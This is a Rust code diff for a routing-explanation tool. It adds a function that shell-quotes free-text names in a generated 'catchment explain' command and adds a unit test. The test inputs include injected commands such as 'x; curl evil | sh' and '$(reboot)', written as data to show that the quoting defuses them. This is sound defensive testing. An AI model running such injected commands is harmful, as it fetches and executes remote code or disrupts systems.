@@ -18,7 +18,7 @@ use catchment_routing::{Situation, Step, Via, link_rtt_ms, solve};
 use super::flips::flip_info;
 use super::problems::{cancelled, no_such_dot, problem, unfinished, unsolved};
 use super::ways::{active_sites, first_prefix, layers, prefix_of};
-use super::{Played, Run, Watch};
+use super::{Played, Run, SCENARIO_FILE, Watch};
 use crate::api::{ChangeInfo, FlipInfo, HopInfo, NearInfo, OptionInfo, PacketInfo, Problem, Why};
 use crate::columns::fate_code;
 
@@ -75,14 +75,23 @@ pub fn why(
     Ok(why)
 }
 
-/// The command that prints the same.
+/// A text as one word of a shell: names are free text, and a command is there to be pasted.
+pub fn shell_word(text: &str) -> String {
+    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-./:+,@%".contains(&byte);
+    match !text.is_empty() && text.bytes().all(is_plain) {
+        true => text.to_owned(),
+        false => format!("'{}'", text.replace('\'', "'\\''")),
+    }
+}
+
+/// The command that prints the same, with [`SCENARIO_FILE`] for the scenario.
 fn command(played: &Played, dot: u32, at_us: i64, prefix: Option<String>) -> String {
     let world = &played.assembled.world;
     let asn = world.asn_of(dot);
-    let mut command = format!("catchment explain {} --as {asn}", played.scenario.name);
+    let mut command = format!("catchment explain {SCENARIO_FILE} --as {asn}");
     let routers = world.routers_of_asn(asn);
     if let Some(place) = world.place(dot).filter(|_| world.shown_router(routers) != dot) {
-        command += &format!(" --city {}", place.code);
+        command += &format!(" --city {}", shell_word(&place.code));
     }
     if let Some(prefix) = prefix {
         command += &format!(" --prefix {prefix}");
@@ -491,5 +500,26 @@ fn reason(script: &Script<'_>, why: &Why, site: u32) -> String {
             Some(_) => format!("the nearest healthy site to the resolver when it asked{km}"),
             None => "a healthy site when it asked".to_owned(),
         },
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::shell_word;
+
+    #[test]
+    fn a_name_is_one_word_of_a_shell() {
+        for (name, word) in [
+            ("frankfurt-fails", "frankfurt-fails"),
+            ("my/own.toml", "my/own.toml"),
+            ("", "''"),
+            ("x; curl evil | sh", "'x; curl evil | sh'"),
+            ("$(reboot)", "'$(reboot)'"),
+            ("it's", "'it'\\''s'"),
+            ("São Paulo", "'São Paulo'"),
+            ("a\nb", "'a\nb'"),
+        ] {
+            assert_eq!(shell_word(name), word);
+        }
     }
 }
